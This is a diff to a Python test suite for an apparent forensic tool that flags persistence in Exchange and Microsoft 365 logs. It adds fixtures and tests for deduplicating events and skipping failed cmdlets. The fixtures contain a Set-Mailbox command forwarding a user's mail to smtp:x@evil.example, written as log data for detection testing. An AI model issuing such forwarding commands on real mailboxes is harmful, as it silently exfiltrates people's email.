@@ -51,7 +51,7 @@ def test_equal_acts_are_told_once_and_those_not_looked_up_are_counted(tmp_path: 
     told = {one.what: len(one.grounds) for one in _footholds(tmp_path, {"m365/audit.jsonl": ual_json(many)})}
     assert told == {
         "Set-Mailbox on anna by admin@gov.example: ForwardingSmtpAddress = smtp:x@evil.example": 10,
-        "ForwardingSmtpAddress=smtp:x@evil.example; Operation=Set-Mailbox (5 further records)": 10,
+        'Operation=Set-Mailbox; Parameters=-ForwardingSmtpAddress "smtp:x@evil.example" (5 further records)': 10,
     }
 
 
@@ -63,6 +63,39 @@ def test_a_script_in_a_cmdlet_is_told_whole(tmp_path: Path) -> None:
     log = security_log([cmdlet | {"user_data": body}], channel="MSExchange Management")
     (told,) = _footholds(tmp_path, {"EX01/management.xml": log})
     assert told.what == f"Set-OabVirtualDirectory on OAB by gov/admin: ExternalUrl = {address}"
+
+
+ADMIN_AUDIT = (
+    '<SearchResults><Event Caller="gov/admin" Cmdlet="Set-Mailbox" ObjectModified="gov/Users/anna" '
+    'RunDate="2021-03-03T02:00:0{1}+00:00" Succeeded="{0}" Error="None" OriginatingServer="EX01 (15.01.2176.002)">'
+    '<CmdletParameters><Parameter Name="Identity" Value="anna" /><Parameter Name="ForwardingSmtpAddress" '
+    'Value="smtp:x@evil.example" /></CmdletParameters></Event></SearchResults>'
+)
+
+
+def _forwarding_event(number: int, *, kind: int = 1) -> dict[str, object]:
+    text = "-Identity &quot;anna&quot; -ForwardingSmtpAddress &quot;smtp:x@evil.example&quot;"
+    body = f"<EventData><Data>Set-Mailbox</Data><Data>{text}</Data><Data>GOV\\admin</Data></EventData>"
+    at = f"2021-03-03 0{number + 1}:00:00"
+    return {"number": number, "event": kind, "at": at, "provider": "MSExchange CmdletLogs", "user_data": body}
+
+
+def test_one_act_in_two_logs_is_left_behind_once_and_one_that_only_a_late_log_has_as_well(tmp_path: Path) -> None:
+    log = security_log([_forwarding_event(1)], channel="MSExchange Management")
+    both = {"EX01/management.xml": log, "audit/a.xml": ADMIN_AUDIT.format("true", 5)}
+    (told,) = _footholds(tmp_path / "both", both)
+    assert (told.host, told.what) == (
+        "EX01",
+        "Set-Mailbox on anna by GOV\\admin: ForwardingSmtpAddress = smtp:x@evil.example",
+    )
+    (alone,) = _footholds(tmp_path / "alone", {"audit/a.xml": ADMIN_AUDIT.format("true", 5)})
+    assert "ForwardingSmtpAddress = smtp:x@evil.example" in alone.what
+    assert {one.table for one in alone.grounds} == {"admin_audit"}
+
+
+def test_what_failed_left_nothing_behind(tmp_path: Path) -> None:
+    log = security_log([_forwarding_event(1, kind=6)], channel="MSExchange Management")
+    assert _footholds(tmp_path, {"EX01/management.xml": log, "audit/a.xml": ADMIN_AUDIT.format("false", 5)}) == []
 
 
 def test_a_rule_that_was_removed_is_told_with_who_removed_it(tmp_path: Path) -> None:
